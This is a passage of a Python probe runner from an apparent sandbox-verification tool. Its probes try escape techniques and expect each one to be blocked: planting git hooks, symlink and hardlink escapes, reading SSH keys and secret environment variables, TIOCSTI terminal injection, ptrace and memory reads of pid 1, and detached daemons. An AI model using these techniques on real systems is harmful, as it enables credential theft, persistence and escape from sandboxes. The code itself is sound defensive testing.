    except FileNotFoundError:
        return "blocked", f"{path} does not exist here (hidden)"


# --------------------------------------------------------------------------- filesystem helpers


def _tag(c: Ctx) -> str:
    return f"{c.context}-{os.getpid()}"


def try_append(path: str | Path, data: bytes, *, create: bool) -> Result:
    """Append `data` (never truncate); permitted once it is written."""
    flags = os.O_WRONLY | os.O_APPEND | (os.O_CREAT if create else 0)
    fd = os.open(path, flags, 0o644)
    try:
        n = os.write(fd, data)
    finally:
        os.close(fd)
    return "permitted", f"wrote {n} bytes to {path}"


def _roundtrip(directory: Path, stem: str) -> Result:
    """Create, write, rename, read back and delete a file in `directory`."""
    a, b = directory / f"{stem}.tmp", directory / f"{stem}.renamed"
    payload = b"sandgate verify\n"
    try:
        a.write_bytes(payload)
        os.rename(a, b)
        if b.read_bytes() != payload:
            raise Unsupported(f"{b} read back different content")
        b.unlink()
    finally:
        for p in (a, b):
            p.unlink(missing_ok=True)
    return "permitted", f"create/write/rename/delete in {directory}"


def _git_dir() -> Path:
    git = Path(".git")
    if not git.is_dir():
        raise Unsupported("no .git directory in the workspace")
    return git


# --------------------------------------------------------------------------- filesystem probes


@probe("filesystem", "write_workspace", "permitted")
def write_workspace(c: Ctx) -> Result:
    """Control: the command can work in its workspace (cwd) and its private /tmp."""
    stem = f".sandgate-verify-{_tag(c)}"
    return combine(
        [
            ("workspace", attempt(_roundtrip, Path.cwd(), stem)),
            ("/tmp", attempt(_roundtrip, Path("/tmp"), stem.lstrip("."))),
        ],
        need="all",
    )


@probe("filesystem", "write_outside", "blocked")
def write_outside(c: Ctx) -> Result:
    """Writes outside the workspace: tampering with other projects, dotfiles, persistence.

    ~/.bashrc is written too, but inside ~ is the sandbox's own overlay: that write may succeed
    there, and verify judges it by the REAL file on the host afterwards (it must be unchanged)."""
    line = b"# " + c.marker
    try:
        with open(Path(c.s("home")) / ".bashrc", "ab") as f:
            f.write(line + b"\n")
    except OSError:
        pass  # refused outright is fine too
    return combine(
        [
            ("outside_file", attempt(try_append, c.s("outside_file"), line, create=False)),
            (
                "outside_dir",
                attempt(try_append, Path(c.s("outside_dir")) / f"verify-{c.context}.txt", line, create=True),
            ),
        ],
        need="any",
    )


@probe("filesystem", "git_hooks", "blocked")
def git_hooks(c: Ctx) -> Result:
    """A git hook planted in the workspace runs on the user's next commit, outside any sandbox."""
    return try_append(_git_dir() / "hooks" / "pre-commit", b"# " + c.marker, create=True)


@probe("filesystem", "git_config", "blocked")
def git_config(c: Ctx) -> Result:
    """.git/config can name programs git runs (core.fsmonitor, core.sshCommand...)."""
    return try_append(_git_dir() / "config", b"# " + c.marker, create=False)


def _create_or_open(path: Path) -> Result:
    """Create `path` (removed again afterwards) or, if it exists, open it for writing without writing."""
    try:
        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
    except FileExistsError:
        fd = os.open(path, os.O_WRONLY | os.O_APPEND)
        os.close(fd)
        return "permitted", f"existing {path} opened for writing"
    os.close(fd)
    path.unlink()
    return "permitted", f"created {path} (removed again)"


def _mkdir_control(c: Ctx) -> Result:
    d = Path(f".sandgate-probe-{c.context}")
    d.mkdir()
    d.rmdir()
    return "permitted", f"mkdir/rmdir {d} works"


@probe("filesystem", "create_protected", "blocked")
def create_protected(c: Ctx) -> Result:
    """Creating a missing protected path (.sandgate.yaml policy, .sandgate/) the user would later trust."""
    control = attempt(_mkdir_control, c)
    if control[0] != "permitted":
        return "unsupported", f"control failed, cannot tell: {control[1]}"
    parts = [(".sandgate.yaml", attempt(_create_or_open, Path(".sandgate.yaml")))]
    if Path(".sandgate").is_dir():
        parts.append((".sandgate/", attempt(_create_or_open, Path(".sandgate") / f"verify-{_tag(c)}")))
    return combine(parts, need="any")


@probe("filesystem", "symlink_escape", "blocked")
def symlink_escape(c: Ctx) -> Result:
    """A symlink in the workspace pointing outside: writing through it must not reach the target."""
    link = Path(f"sl-{_tag(c)}")
    link.unlink(missing_ok=True)
    try:
        os.symlink(c.s("outside_file"), link)
    except OSError as e:
        raise Unsupported(f"cannot create a symlink in the workspace: {describe(e)}") from e
    try:
        return try_append(link, b"# " + c.marker, create=False)
    finally:
        link.unlink(missing_ok=True)


@probe("filesystem", "hardlink_escape", "blocked")
def hardlink_escape(c: Ctx) -> Result:
    """A hard link into the workspace makes an outside file writable under an allowed path."""
    link = Path(f"hl-{_tag(c)}")
    link.unlink(missing_ok=True)
    os.link(c.s("outside_file"), link)
    link.unlink()
    return "permitted", f"linked {c.s('outside_file')} as {link} (removed again)"


def _rename_and_restore(src: Path, dst: Path) -> Result:
    os.rename(src, dst)
    try:
        return "permitted", f"renamed {src} -> {dst}"
    finally:
        os.rename(dst, src)


@probe("filesystem", "rename_protected", "blocked")
def rename_protected(c: Ctx) -> Result:
    """Renaming a protected directory away and putting a writable one in its place."""
    git = _git_dir()
    return combine(
        [
            (".git/hooks", attempt(_rename_and_restore, git / "hooks", git / f"hooks-{c.context}")),
            (".git", attempt(_rename_and_restore, git, Path(f".git-{c.context}"))),
        ],
        need="any",
    )


MS_REMOUNT, MS_BIND = 32, 4096


def _libc() -> ctypes.CDLL:
    """libc through the running program's symbols (find_library would spawn ldconfig)."""
    return ctypes.CDLL(None, use_errno=True)


@probe("filesystem", "remount_rw", "blocked")
def remount_rw(c: Ctx) -> Result:
    """Remounting a read-only protection (.git/hooks) read-write."""
    target = _git_dir() / "hooks"
    libc = _libc()
    libc.mount.argtypes = [ctypes.c_char_p, ctypes.c_char_p, ctypes.c_char_p, ctypes.c_ulong, ctypes.c_void_p]
    if libc.mount(None, str(target).encode(), None, MS_REMOUNT | MS_BIND, None) == 0:
        return "permitted", f"remounted {target} read-write"
    err = ctypes.get_errno()
    if err == errno.EINVAL:
        raise Unsupported(f"{target} is not a mount point here (EINVAL)")
    raise OSError(err, os.strerror(err), str(target))


@probe("filesystem", "read_ssh_key", "blocked")
def read_ssh_key(c: Ctx) -> Result:
    """Reading secrets in the home directory (SSH keys) to exfiltrate them."""
    key = Path(c.s("home")) / ".ssh" / "id_ed25519"
    try:
        data = key.read_text(errors="replace")
    except FileNotFoundError:
        return "blocked", f"{key} does not exist here (hidden)"
    if c.s("secret_marker") in data:
        return "permitted", f"read the secret from {key}"
    return "blocked", f"{key} readable but without the secret ({len(data)} chars)"


@probe("filesystem", "secret_env", "blocked")
def secret_env(c: Ctx) -> Result:
    """Secrets inherited through the environment (tokens, passwords)."""
    name = c.s("secret_env")
    if name in os.environ:
        return "permitted", f"{name} is set ({len(os.environ[name])} chars)"
    return "blocked", f"{name} is absent"


# ------------------------------------------------------------------------------ process probes


@probe("process", "tiocsti", "blocked", contexts=("child",))
def tiocsti(c: Ctx) -> Result:
    """Typing commands into the user's terminal (TIOCSTI) that run after the sandbox exits."""
    if not os.isatty(0):
        raise Unsupported("no terminal")
    try:
        fcntl.ioctl(0, termios.TIOCSTI, b"#")
    except OSError as e:
        if e.errno == errno.EIO:
            return "blocked", "EIO (dev.tty.legacy_tiocsti=0)"
        raise
    return "permitted", "injected '#' into the terminal"


PTRACE_ATTACH, PTRACE_DETACH = 16, 17
WALL = 0x40000000  # __WALL


@probe("process", "ptrace_outside", "blocked")
def ptrace_outside(c: Ctx) -> Result:
    """ptrace of a process outside the command's Landlock domain (the sandbox's init, pid 1)."""
    libc = _libc()
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if libc.ptrace(PTRACE_ATTACH, 1, None, None) != 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    # Attached: wait for the stop (bounded), then let it go again.
    deadline = time.monotonic() + 2.0
    while time.monotonic() < deadline:
        try:
            if os.waitpid(1, os.WNOHANG | WALL)[0] == 1:
                break
        except ChildProcessError:
            break
        time.sleep(0.01)
    libc.ptrace(PTRACE_DETACH, 1, None, None)
    return "permitted", "PTRACE_ATTACH to pid 1 succeeded (detached again)"


class _IoVec(ctypes.Structure):
    _fields_ = [("iov_base", ctypes.c_void_p), ("iov_len", ctypes.c_size_t)]


def _some_address(pid: int) -> int:
    """Start of a mapping of `pid` if its maps are readable, else a typical non-PIE text address."""
    try:
        first = Path(f"/proc/{pid}/maps").read_text().split("-", 1)[0]
        return int(first, 16)
    except (OSError, ValueError):
        return 0x400000


@probe("process", "process_vm_readv", "blocked")
def process_vm_readv(c: Ctx) -> Result:
    """Reading another process's memory (secrets in the sandbox init or a host process)."""
    libc = _libc()
    fn = libc.process_vm_readv
    fn.restype = ctypes.c_ssize_t
    fn.argtypes = [
        ctypes.c_int,
        ctypes.POINTER(_IoVec),
        ctypes.c_ulong,
        ctypes.POINTER(_IoVec),
        ctypes.c_ulong,
        ctypes.c_ulong,
    ]
    buf = ctypes.create_string_buffer(8)
    addr = _some_address(1)
    local = _IoVec(ctypes.cast(buf, ctypes.c_void_p), 8)
    remote = _IoVec(addr, 8)
    n = fn(1, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    if n >= 0:
        return "permitted", f"read {n} bytes of pid 1 at {addr:#x}"
    err = ctypes.get_errno()
    if err == errno.EFAULT:
        return "permitted", f"EFAULT at {addr:#x}: the kernel let us try to read pid 1"
    if err == errno.ESRCH:
        return "blocked", "ESRCH: pid 1 not visible"
    raise OSError(err, os.strerror(err))


@probe("process", "signal_outside", "blocked")
def signal_outside(c: Ctx) -> Result:
    """Signalling a process outside the command's domain (killing or disturbing the supervisor)."""
    os.kill(1, 0)
    return "permitted", "kill(1, 0) succeeded"


@probe("process", "proc_root", "blocked")
def proc_root(c: Ctx) -> Result:
    """Seeing host processes in /proc, or reaching a foreign root through /proc/<pid>/root."""
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    try:
        root = sorted(os.listdir("/proc/1/root"))
        same = root == sorted(os.listdir("/"))
        root_text = "/proc/1/root lists the same root" if same else f"/proc/1/root lists a different root: {root[:8]}"
    except OSError as e:
        same, root_text = True, f"/proc/1/root: {describe(e)}"
    observed = "permitted" if len(pids) > PROC_PIDS_LIMIT or not same else "blocked"
    return observed, f"{len(pids)} pids visible; {root_text}"


SETUID_CANDIDATES = ("/usr/bin/passwd", "/usr/bin/su", "/bin/su", "/usr/bin/sudo", "/usr/bin/mount", "/bin/mount")


@probe("process", "setuid_gain", "blocked")
def setuid_gain(c: Ctx) -> Result:
    """Gaining privileges through a setuid-root binary (no_new_privs must be set)."""
    status = dict(line.split(":", 1) for line in Path("/proc/self/status").read_text().splitlines() if ":" in line)
    flag = status.get("NoNewPrivs", "").strip()
    if flag not in ("0", "1"):
        raise Unsupported("no NoNewPrivs line in /proc/self/status")
    suid = next((p for p in SETUID_CANDIDATES if _is_setuid_root(p)), None)
    detail = f"NoNewPrivs: {flag}; setuid-root binary: {suid or 'none found'}"
    return ("blocked" if flag == "1" else "permitted"), detail


def _is_setuid_root(path: str) -> bool:
    try:
        st = os.stat(path)
    except OSError:
        return False
    return bool(st.st_mode & stat.S_ISUID) and st.st_uid == 0


# ----------------------------------------------------------------------------------- contexts


def emit(record: Mapping[str, Any], out: Any = None) -> None:
    """One record as one JSON line, flushed (a killed runner leaves only complete lines)."""
    out = out or sys.stdout
    out.write(json.dumps(record) + "\n")
    out.flush()


def relay_line(line: str) -> bool:
    """Print `line` if it is one JSON record; anything else goes to stderr. True if relayed."""
    line = line.strip()
    if not line:
        return False
    try:
        rec = json.loads(line)
    except ValueError:
        rec = None
    if not isinstance(rec, dict):
        print(f"sandgate-probes: not a record: {line[:200]}", file=sys.stderr, flush=True)
        return False
    emit(rec)
    return True


def runner_argv(spec_path: str, spec: Spec, context: str, only: list[str] | None) -> list[str]:
    """The command line that runs this runner again (spec.python, else this interpreter)."""
    argv = [str(spec.get("python") or sys.executable), "-m", "launcher.probes", spec_path, "--context", context]
    for name in only or ():
        argv += ["--only", name]
    return argv


def run_grandchild(spec_path: str, spec: Spec, only: list[str] | None) -> None:
    """Run the probes again from `sh -c` (a grandchild of the command) and relay its records."""
    proc = subprocess.Popen(
        ["sh", "-c", shlex.join(runner_argv(spec_path, spec, "grandchild", only))], stdout=subprocess.PIPE, text=True
    )
    assert proc.stdout is not None
    count = sum(relay_line(line) for line in proc.stdout)
    try:
        rc = proc.wait(GRANDCHILD_TIMEOUT)
    except subprocess.TimeoutExpired:
        proc.kill()
        rc = proc.wait()
    if rc != 0 or count == 0:
        print(f"sandgate-probes: grandchild exited {rc} after {count} records", file=sys.stderr, flush=True)


@dataclass(frozen=True)
class DaemonFiles:
    partial: Path  # written while the daemon probes run
    done: Path  # the same file once complete (os.replace: the parent never sees half a file)
    heartbeat: Path
    log: Path  # the daemon's stderr

    @classmethod
    def of(cls, spec: Spec) -> DaemonFiles:
        results, stem = Path(str(spec["results_dir"])), f"daemon-{spec['daemon_token']}"
        return cls(*(results / f"{stem}{ext}" for ext in (".jsonl", ".done.jsonl", ".heartbeat", ".log")))


def set_process_name(name: str) -> None:
    """prctl(PR_SET_NAME): the comm shown by ps / /proc/<pid>/comm (15 bytes at most)."""
    _libc().prctl(15, ctypes.c_char_p(name.encode()[:15]), 0, 0, 0)


def heartbeat(spec: Spec, path: Path, duration: float = HEARTBEAT_DURATION) -> None:
    """Every HEARTBEAT_INTERVAL s: try allowed_ip:80 and append 'alive <time> <ok|fail>' to `path`."""
    end = time.monotonic() + duration
    target = (str(spec["allowed_ip"]), 80)
    while time.monotonic() < end:
        start = time.monotonic()
        try:
            with socket.create_connection(target, timeout=HEARTBEAT_INTERVAL * 0.8):
                ok = "ok"
        except OSError:
            ok = "fail"
        try:
            with open(path, "a") as f:
                f.write(f"alive {time.time():.3f} {ok}\n")
        except OSError:
            pass  # keep trying: the orchestrator looks for writes after the run
        time.sleep(max(0.0, HEARTBEAT_INTERVAL - (time.monotonic() - start)))


def daemon_role(spec: Spec, only: list[str] | None) -> None:
    """What the (already detached) daemon does: probes -> results file -> rename -> name -> heartbeat."""
    files = DaemonFiles.of(spec)
    with open(files.partial, "w") as f:
        for rec in run_probes(spec, "daemon", only):
            emit(rec, f)
    os.replace(files.partial, files.done)
    set_process_name(str(spec["daemon_token"]))
    heartbeat(spec, files.heartbeat)


def spawn_daemon(spec_path: str, spec: Spec, only: list[str] | None) -> None:
    """Double fork + setsid, stdio away from the command, then exec the runner as the daemon.

    The exec gives the daemon a fresh interpreter and puts its token on its command line, so
    both `ps -o comm` (PR_SET_NAME) and `pgrep -f TOKEN` find it.
    """
    files = DaemonFiles.of(spec)
    argv = [*runner_argv(spec_path, spec, "daemon", only), "--tag", str(spec["daemon_token"])]
    sys.stdout.flush()
    sys.stderr.flush()
    pid = os.fork()
    if pid == 0:  # the intermediate: new session, fork the daemon, exit
        code = 1
        try:
            os.setsid()
            if os.fork() == 0:
                null = os.open(os.devnull, os.O_RDWR)
                log = os.open(files.log, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644)
                os.dup2(null, 0)
                os.dup2(null, 1)
                os.dup2(log, 2)
                os.execv(argv[0], argv)
            code = 0
        except BaseException:
            traceback.print_exc()
        finally:
            os._exit(code)
    os.waitpid(pid, 0)


def relay_daemon(spec: Spec, wait: float = DAEMON_WAIT) -> int:
    """Wait up to `wait` s for the daemon's finished results and relay them; the number relayed."""
    files = DaemonFiles.of(spec)
    deadline = time.monotonic() + wait
    while not files.done.exists() and time.monotonic() < deadline:
        time.sleep(0.1)
    if not files.done.exists():
        print(f"sandgate-probes: no daemon results ({files.done}) within {wait:g} s", file=sys.stderr, flush=True)
        return 0
    return sum(relay_line(line) for line in files.done.read_text().splitlines())


def _spec_only(spec: Spec) -> list[str] | None:
    """spec["only"]: None, one group / probe name, or a list of them."""
    only = spec.get("only")
    if only is None or only == "":
        return None
    return [only] if isinstance(only, str) else [str(x) for x in only]


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="python -m launcher.probes", description=__doc__.splitlines()[0])
    ap.add_argument("spec", nargs="?", help="SPEC.json written by `sandgate verify`")
    ap.add_argument(
        "--context",
        choices=CONTEXTS,
        default="child",
        help="child (default): run, then spawn the grandchild and the daemon; "
        "grandchild: run only; daemon: run into the results file, then heartbeat",
    )
    ap.add_argument(
        "--only",
        action="append",
        metavar="NAME",
        help="only this probe or group (repeatable); default: the spec's 'only'",
    )
    ap.add_argument("--no-spawn", action="store_true", help="child: no grandchild, no daemon")
    ap.add_argument("--tag", help="ignored: puts the daemon token on the daemon's command line")
    ap.add_argument("--list", action="store_true", help="print the probe list as JSON lines and exit")
    args = ap.parse_args(argv)
    if args.list:
        for group, name, expected in probe_list():
            emit({"group": group, "probe": name, "expected": expected, "threat": REGISTRY[name].threat})
        return 0
    if args.spec is None:
        ap.error("SPEC is required")
    try:
        spec = json.loads(Path(args.spec).read_text())
        if not isinstance(spec, dict):
            raise ValueError("the spec must be a JSON object")
        only = args.only or _spec_only(spec)
        select_probes(args.context, only)
    except (OSError, ValueError) as e:
        print(f"sandgate-probes: {args.spec}: {e}", file=sys.stderr)
        return 2
    if args.context == "daemon":
        daemon_role(spec, only)
        return 0
    for rec in run_probes(spec, args.context, only):
        emit(rec)
    if args.context == "child" and not args.no_spawn:
        run_grandchild(args.spec, spec, only)
        spawn_daemon(args.spec, spec, only)
        relay_daemon(spec)
    return 0


from launcher import (
    probes_host,  # noqa: F401 - registers the v2 host-boundary probes
    probes_review,  # noqa: F401 - registers the v1-review probes
)

if __name__ == "__main__":  # run as __main__, this file's REGISTRY lacks probes_host's: use the package's
    from launcher import probes as _package

    sys.exit(_package.main())
